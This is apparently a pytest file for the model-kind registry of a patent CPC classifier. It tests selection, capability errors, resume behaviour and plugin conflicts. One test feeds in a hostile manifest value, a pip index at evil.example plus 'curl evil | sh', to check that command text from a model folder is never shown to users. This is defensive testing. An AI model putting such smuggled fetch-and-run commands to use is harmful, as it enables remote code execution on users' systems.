"""The kind registry (issue 28): one declaration per kind, selection once per run, capabilities asked
of the registry with the same one-line error everywhere, ``--resume`` for every kind that can."""

from __future__ import annotations

import inspect
from pathlib import Path

import numpy as np
import pytest

from patentcpc import registry
from patentcpc.config import TrainConfig, resolve
from patentcpc.errors import ModelError
from patentcpc.models.base import CPCModel

SRC = Path(__file__).resolve().parents[1] / "src" / "patentcpc"


def test_every_built_in_kind_is_one_declaration_in_its_own_package():
    kinds = registry.kinds()
    assert list(kinds)[: len(registry.BUILTIN_PACKAGES)] == list(registry.BUILTIN_PACKAGES)
    for name in registry.BUILTIN_PACKAGES:
        kind = kinds[name]
        cls = kind.model_class()
        assert issubclass(cls, CPCModel) and cls.kind == name
        assert cls.__module__.startswith(f"patentcpc.kinds.{name}.")  # the model lives with its kind
        if kind.trainer is not None:
            trainer = kind.hook("train")
            assert list(inspect.signature(trainer).parameters)[:4] == ["cfg", "data", "eval_data", "output"]
        assert set(kind.capabilities) <= set(registry.CAPABILITIES)
        assert set(kind.config) <= {f for f in TrainConfig.__dataclass_fields__}
    assert [k.name for k in kinds.values() if k.fallback] == ["transformer"]


@pytest.mark.parametrize(("model", "arch", "kind"), [
    ("tfidf", None, "linear"), ("scheme", None, "scheme"), ("ensemble", None, "ensemble"), ("router", None, "router"),
    (None, "modernbert-tiny", "transformer"), (None, "llama-tiny", "causal_lm"), ("llama-tiny", None, "causal_lm"),
])
def test_selection(model, arch, kind):
    cli = {"transformer": {"arch": arch}} if arch else {}
    if model:
        cli["model"] = model
    assert registry.select(resolve(TrainConfig, None, cli)).name == kind


def test_a_missing_capability_is_the_same_one_line_error_everywhere(tmp_path, tiny_jsonl, cli):
    with pytest.raises(ModelError, match=r"^M: a 'linear' model cannot be exported to ONNX .*kinds that can: "
                                         r"transformer\)$"):
        registry.get("linear").require("onnx_export", "M")
    model = tmp_path / "m"
    assert cli("train", "--model", "tfidf", "--data", tiny_jsonl, "--output", model).returncode == 0
    for args, what in ((("export", "onnx", "--model", model), "be exported to ONNX"),
                       (("export", "merged", "--model", model, "--output", tmp_path / "merged"), "merge a LoRA"),
                       (("bench", "--model", model), "be benchmarked")):
        res = cli(*args)
        assert res.returncode == 2 and len(res.lines) == 1, res.stderr
        assert f"a 'linear' model cannot {what}" in res.stderr
    assert not (tmp_path / "merged").exists() and not (model / "onnx").exists()


def test_an_unknown_kind_in_a_manifest_names_the_package_to_install(tmp_path, linear_model):
    import json

    folder = tmp_path / "m"
    linear_model.save(folder)
    doc = json.loads((folder / "manifest.json").read_text())
    doc["kind"] = "keywords"
    doc.setdefault("extra", {})["kind_package"] = "patentcpc-keywords"
    (folder / "manifest.json").write_text(json.dumps(doc))
    with pytest.raises(ModelError, match=r"model kind 'keywords' is not installed: the folder says it comes from the "
                                         r"package patentcpc-keywords \(pip install patentcpc-keywords\)"):
        registry.load_model(folder)
    for hostile in ("evil --index-url http://evil.example/simple; curl evil | sh", {"a": 1}, "-e ."):
        doc["extra"]["kind_package"] = hostile  # a folder is data: no command text from it is shown
        (folder / "manifest.json").write_text(json.dumps(doc))
        with pytest.raises(ModelError, match="unknown model kind 'keywords'") as err:
            registry.load_model(folder)
        assert "pip install" not in str(err.value)
    doc["extra"].pop("kind_package")
    (folder / "manifest.json").write_text(json.dumps(doc))
    with pytest.raises(ModelError, match="unknown model kind 'keywords' \\(known: linear, scheme"):
        registry.load_model(folder)


def test_a_saved_model_keeps_only_its_kinds_sections_of_the_config(tmp_path, tiny_jsonl):
    import yaml

    cfg = resolve(TrainConfig, None, {"model": "tfidf"})
    registry.train_model(cfg, str(tiny_jsonl), None, tmp_path / "m")
    saved = yaml.safe_load((tmp_path / "m" / "config.yaml").read_text())
    assert {"data", "linear", "calibration", "model", "seed"} <= set(saved)
    assert not {"transformer", "llm", "lora", "ensemble", "router", "options"} & set(saved)


# ----------------------------------------------------------------------------- --resume, kind by kind

NO_RESUME = {"tfidf": [], "scheme": [], "router": ["--members", "tfidf,tfidf"]}


@pytest.mark.parametrize("model", sorted(NO_RESUME))
def test_kinds_that_train_in_one_go_refuse_resume_in_one_line(model, tmp_path, tiny_jsonl, cli):
    kind = registry.select(resolve(TrainConfig, None, {"model": model}))
    assert not kind.can("resume")
    out = tmp_path / "m"
    res = cli("train", "--model", model, "--data", tiny_jsonl, "--output", out, "--resume", *NO_RESUME[model])
    assert res.returncode == 2 and len(res.lines) == 1, res.stderr
    assert f"a '{kind.name}' model cannot resume training" in res.stderr and "--overwrite" in res.stderr
    assert not out.exists()


def _stop_after_first_checkpoint():
    from transformers import TrainerCallback

    class Stop(TrainerCallback):
        def on_save(self, args, state, control, **kw):
            if (Path(args.output_dir) / f"checkpoint-{state.global_step}" / "COMMITTED").exists():
                raise KeyboardInterrupt

    return Stop()


RESUMABLE = {
    "transformer": ({"transformer": {"arch": "modernbert-tiny"}}, []),
    "causal_lm": ({"transformer": {"arch": "llama-tiny"}}, ["transformer.wise_alpha=null"]),
}


@pytest.mark.slow
@pytest.mark.parametrize("name", sorted(RESUMABLE))
def test_resume_continues_a_stopped_run_to_the_same_model(name, tmp_path, tiny_jsonl, cli):
    """For each kind that declares ``resume``: a run stopped right after its first checkpoint, resumed
    with ``patentcpc train --resume``, ends with the weights of a run that was never stopped."""
    from safetensors.numpy import load_file

    cli_cfg, extra = RESUMABLE[name]
    sets = ["transformer.max_length=32", "transformer.batch_size=8", "transformer.max_steps=4",
            "transformer.eval_steps=2", "transformer.patience=0", "transformer.refit_head=false",
            "calibration.method=none", "guard=warn", *extra]
    cfg = resolve(TrainConfig, None, cli_cfg, sets)
    kind = registry.select(cfg)
    assert kind.name == name and kind.can("resume")
    full, stopped = tmp_path / "full", tmp_path / "stopped"
    registry.train_model(cfg, str(tiny_jsonl), None, full)
    with pytest.raises(KeyboardInterrupt):
        registry.train_model(cfg, str(tiny_jsonl), None, stopped, callbacks=[_stop_after_first_checkpoint()])
    assert not (stopped / "manifest.json").exists()
    assert any((stopped / "checkpoints").glob("checkpoint-*/COMMITTED"))
    res = cli("train", "--arch", cli_cfg["transformer"]["arch"], "--data", tiny_jsonl, "--output", stopped,
              "--resume", *[arg for s in sets for arg in ("--set", s)])
    assert res.returncode == 0, res.stderr
    assert f"saved {name} model" in res.stdout
    a, b = load_file(str(full / "head.safetensors")), load_file(str(stopped / "head.safetensors"))
    assert set(a) == set(b)
    for key in a:
        np.testing.assert_allclose(a[key], b[key], atol=1e-5, err_msg=key)


def test_ensemble_resume_reuses_the_finished_members_of_a_stopped_run(tiny_jsonl, tmp_path, monkeypatch, cli):
    from patentcpc.kinds.ensemble import trainer as ensemble_trainer

    sets = ["--set", "ensemble.folds=2", "--set", "calibration.cv_folds=2"]
    args = ["train", "--model", "ensemble", "--members", "tfidf,tfidf", "--data", tiny_jsonl,
            "--output", tmp_path / "ens", *sets]
    real, trained = ensemble_trainer.fit_ensemble_scored, []

    def stop(*a, **k):
        raise KeyboardInterrupt

    monkeypatch.setattr(ensemble_trainer, "fit_ensemble_scored", stop)
    assert cli(*args).returncode == 130  # Ctrl-C after the members: they stay for the next run
    assert (tmp_path / ".ens.ensemble-work" / "all-member-1" / "manifest.json").is_file()
    monkeypatch.setattr(ensemble_trainer, "fit_ensemble_scored", real)
    from patentcpc.kinds.linear import trainer as linear_trainer  # what trains each tfidf member

    monkeypatch.setattr(linear_trainer, "train_linear", lambda *a, **k: trained.append(a) or pytest.fail("retrained"))
    res = cli(*args, "--resume")
    assert res.returncode == 0, res.stderr
    assert "saved ensemble model" in res.stdout and not trained
    assert not (tmp_path / ".ens.ensemble-work").exists()


def test_a_setting_the_kind_cannot_use_is_refused_before_training(tmp_path, cli):
    """explain.index on a kind without an explanation index, options on a built-in kind: one line,
    before any work (not silently ignored)."""
    out = tmp_path / "m"
    res = cli("train", "--model", "scheme", "--output", out, "--set", "explain.index=true")
    assert res.returncode == 2 and len(res.lines) == 1, res.stderr
    assert "a 'scheme' model cannot keep an explanation index" in res.stderr
    res = cli("train", "--model", "scheme", "--output", out, "--set", "options.temperature=0.1")
    assert res.returncode == 2 and "options.temperature: a 'scheme' model takes no options" in res.stderr
    assert not out.exists()


def test_the_inference_options_capability_is_what_the_model_class_accepts():
    for kind in registry.kinds().values():
        assert kind.can("inference_options") == kind.model_class().uses_inference_options, kind.name


def test_a_kind_name_is_not_a_model_to_train(cli, tiny_jsonl, tmp_path):
    for name, hint in (("linear", "train it with --model tfidf"), ("omikuji", "give a model folder"),
                       ("transformer", "give a model folder")):
        res = cli("train", "--model", name, "--data", tiny_jsonl, "--output", tmp_path / name)
        assert res.returncode == 2 and len(res.lines) == 1, res.stderr
        assert f"'{name}' is the name of a model kind" in res.stderr and hint in res.stderr
        assert not (tmp_path / name).exists()


def test_options_a_kind_would_ignore_are_refused_and_onnx_needs_an_exporting_kind(cli, tiny_jsonl, tmp_path):
    model = tmp_path / "m"
    assert cli("train", "--model", "tfidf", "--data", tiny_jsonl, "--output", model).returncode == 0
    graph = tmp_path / "x.onnx"
    graph.write_bytes(b"not a graph")
    for option in (["--compile"], ["--token-budget", "999"], ["--device", "cpu"], ["--onnx", graph]):
        res = cli("predict-batch", "--model", model, "--input", tiny_jsonl, "--output", tmp_path / "p.jsonl",
                  *option)
        assert res.returncode == 2 and len(res.lines) == 1, res.stderr
        assert f"{option[0]}: a 'linear' model cannot" in res.stderr
    assert not (tmp_path / "p.jsonl").exists()
    with pytest.raises(ModelError, match="a 'linear' model cannot be exported to ONNX"):
        registry.load_model(model, onnx_file=graph)


def test_a_plugin_cannot_take_a_built_in_model_name_or_the_fallback(monkeypatch, caplog):
    import importlib.metadata as md

    class EP:
        def __init__(self, name, kind):
            self.name, self.value, self._kind = name, f"fake:{name}", kind

        def load(self):
            return self._kind

    fakes = [EP("grab", registry.Kind(name="grab", names=("tfidf",), model="x:Y")),
             EP("fall", registry.Kind(name="fall", fallback=True, model="x:Y")),
             EP("fine", registry.Kind(name="fine", names=("fine",), model="x:Y"))]
    monkeypatch.setattr(md, "entry_points", lambda group=None: fakes if group == registry.ENTRY_POINT_GROUP else [])
    registry.kinds.cache_clear()
    try:
        found = registry.kinds()
        assert "grab" not in found and "fall" not in found and "fine" in found
        assert registry.model_names()["tfidf"] == "linear"
        assert "already selects another kind" in caplog.text and "fallback" in caplog.text
    finally:
        registry.kinds.cache_clear()
